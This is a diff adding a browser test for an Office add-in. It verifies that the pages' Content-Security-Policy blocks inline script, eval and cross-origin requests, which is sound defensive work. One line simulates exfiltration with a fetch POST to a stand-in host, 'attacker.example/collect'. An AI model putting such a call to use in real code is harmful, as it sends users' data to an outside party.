@@ -1,0 +1,102 @@
+/**
+ * The add-in's pages carry a Content-Security-Policy, and the task pane runs under it: built, served, opened in
+ * headless Chromium on the scripted Office stand-in, it renders with no violation; an injected inline script, eval
+ * and a request to another origin are refused.
+ */
+import { readFileSync } from 'node:fs';
+import { createServer, type Server } from 'node:http';
+import { mkdtempSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { extname, join } from 'node:path';
+import type { Browser } from 'playwright-core';
+import { buildAddin } from '../../build/addin';
+import { contentSecurityPolicy } from '../../build/pages';
+import { ADDIN_FILES, LOCAL_BASE_URL } from '../../contract/addin';
+import { launchChromium } from '../../harness/chromium';
+import { fakeOfficeContext } from '../../harness/office/context';
+
+jest.setTimeout(180_000);
+
+let dir: string;
+let server: Server;
+let base: string;
+let browser: Browser;
+
+const TYPES: Record<string, string> = { '.html': 'text/html', '.js': 'text/javascript', '.json': 'application/json' };
+
+beforeAll(async () => {
+  dir = mkdtempSync(join(tmpdir(), 'nianbao-csp-'));
+  const out = join(dir, 'addin');
+  server = createServer((req, res) => {
+    try {
+      const file = join(out, decodeURIComponent(new URL(req.url!, 'http://x').pathname));
+      res.writeHead(200, { 'content-type': TYPES[extname(file)] ?? 'application/octet-stream' });
+      res.end(readFileSync(file));
+    } catch {
+      res.writeHead(404).end();
+    }
+  });
+  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
+  base = `http://127.0.0.1:${(server.address() as { port: number }).port}`;
+  // The manifest wants HTTPS; the pages are served here over HTTP, with the API on the same origin.
+  await buildAddin({ outDir: out, baseUrl: LOCAL_BASE_URL, apiBase: `${base}/api`, minify: false });
+  browser = await launchChromium();
+});
+
+afterAll(async () => {
+  await browser?.close();
+  await new Promise((r) => server?.close(r));
+  rmSync(dir, { recursive: true, force: true });
+});
+
+test('every page has the policy: scripts from itself and the Office CDN only, no inline script, no eval', () => {
+  const csp = contentSecurityPolicy({ connect: [base] });
+  for (const page of [ADDIN_FILES.taskpane, ADDIN_FILES.commands, ADDIN_FILES.signIn, ADDIN_FILES.signInCallback]) {
+    const html = readFileSync(join(dir, 'addin', page), 'utf8');
+    expect(html).toContain(`<meta http-equiv="Content-Security-Policy" content="${csp}">`);
+    expect(html).not.toMatch(/<script>|<script [^>]*>[^<]/); // no inline script to allow
+  }
+  const scriptSrc = csp.split('; ').find((d) => d.startsWith('script-src'))!;
+  expect(scriptSrc).toBe("script-src 'self' https://appsforoffice.microsoft.com https://ajax.aspnetcdn.com");
+  expect(csp).toContain("object-src 'none'");
+  expect(csp).toContain(`connect-src 'self' ${base} `);
+});
+
+test('the task pane renders under it, and it refuses inline script, eval and requests elsewhere', async () => {
+  const context = await fakeOfficeContext(browser);
+  const page = await context.newPage();
+  await page.addInitScript(() => {
+    const w = window as unknown as { __violations: string[] };
+    w.__violations = [];
+    document.addEventListener('securitypolicyviolation', (e) =>
+      w.__violations.push(`${e.violatedDirective} ${e.blockedURI}`),
+    );
+  });
+  await page.goto(`${base}/${ADDIN_FILES.taskpane}`);
+  await page.getByRole('button', { name: '插入年报模板' }).waitFor();
+  expect(await page.evaluate(() => (window as unknown as { __violations: string[] }).__violations)).toEqual([]);
+
+  const attempts = await page.evaluate(async () => {
+    const out: Record<string, string> = {};
+    const s = document.createElement('script');
+    s.textContent = 'window.__inline = 1';
+    document.body.appendChild(s);
+    out.inline = String((window as unknown as { __inline?: number }).__inline ?? 'blocked');
+    try {
+      out.eval = String(eval('1 + 1'));
+    } catch {
+      out.eval = 'blocked';
+    }
+    out.fetch = await fetch('https://attacker.example/collect', { method: 'POST', body: 'x' }).then(
+      () => 'sent',
+      () => 'blocked',
+    );
+    return out;
+  });
+  expect(attempts).toEqual({ inline: 'blocked', eval: 'blocked', fetch: 'blocked' });
+  const violations = await page.evaluate(() => (window as unknown as { __violations: string[] }).__violations);
+  expect(violations.map((v) => v.split(' ')[0])).toEqual(
+    expect.arrayContaining(['script-src-elem', 'script-src', 'connect-src']),
+  );
+  await context.close();
+});
